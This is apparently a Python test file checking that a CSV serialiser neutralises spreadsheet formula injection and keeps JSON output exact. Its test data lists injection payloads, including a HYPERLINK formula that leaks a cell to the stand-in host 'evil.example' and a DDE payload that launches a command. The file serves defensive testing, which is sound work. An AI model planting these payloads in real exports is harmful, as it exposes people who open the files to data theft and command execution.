"""core.serialise: CSV cells cannot become spreadsheet formulas; JSON and NDJSON stay exact."""

import csv
import io
import json
import re
from decimal import Decimal
from pathlib import Path

import pytest

from oversight.core.serialise import csv_writer, write_rows

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+2",
    "\r=1+2",
]
SRC = Path(__file__).resolve().parents[2]


def _csv(rows: list[dict[str, object]]) -> list[list[str]]:
    text = "".join(write_rows(list(rows[0]), rows, "csv"))
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_it_neutralises_a_cell_that_a_spreadsheet_would_run(value: str) -> None:
    [_header, [cell, plain]] = _csv([{"title": value, "plain": "Semptian"}])
    assert cell == "'" + value
    assert plain == "Semptian"


def test_it_neutralises_a_formula_inside_a_list_cell_and_headers() -> None:
    [[header], [cell]] = _csv([{"=evil": ["=1+2"]}])
    assert header == "'=evil"
    assert json.loads(cell) == ["=1+2"]  # a JSON list starts with '[', which is inert


def test_it_keeps_numbers_as_numbers() -> None:
    [_header, cells] = _csv([{"count": -3, "value": Decimal("-1.50"), "ratio": -0.25}])
    assert cells == ["-3", "-1.50", "-0.25"]


@pytest.mark.parametrize("fmt", ["json", "ndjson"])
def test_it_keeps_json_exact(fmt: str) -> None:
    rows = [{"title": value} for value in HOSTILE]
    text = "".join(write_rows(["title"], rows, fmt))
    loaded = json.loads(text) if fmt == "json" else [json.loads(x) for x in text.splitlines()]
    assert loaded == rows


def test_the_writer_for_one_off_csvs_neutralises_too() -> None:
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["@SUM(1,1)", 4])
    assert buffer.getvalue() == '"\'@SUM(1,1)",4\r\n'


def test_it_is_the_only_place_that_writes_csv() -> None:
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if "tests" not in path.parts and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == ["core/serialise.py"]


def test_it_checks_every_trigger_as_the_first_character() -> None:
    from oversight.core.serialise import FORMULA_TRIGGERS, csv_cell

    assert all(len(trigger) == 1 for trigger in FORMULA_TRIGGERS)  # the fast path's premise
    assert [csv_cell(f"{t}1") for t in FORMULA_TRIGGERS] == [f"'{t}1" for t in FORMULA_TRIGGERS]
    assert csv_cell("") == "" and csv_cell("a=1") == "a=1"
